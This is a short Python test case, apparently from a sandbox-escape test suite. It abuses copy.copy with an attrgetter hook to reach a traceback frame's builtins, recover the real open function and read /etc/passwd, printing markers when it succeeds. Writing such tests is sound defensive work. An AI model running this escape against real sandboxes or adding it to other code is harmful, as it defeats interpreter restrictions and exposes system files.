# tries: copy calls a reader as a class's own hook
# class: lazy
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import copy
import operator


class E(Exception):
    __copy__ = staticmethod(operator.attrgetter("__traceback__.tb_frame"))


try:
    raise E
except E as error:
    use(pick(copy.copy(error)))
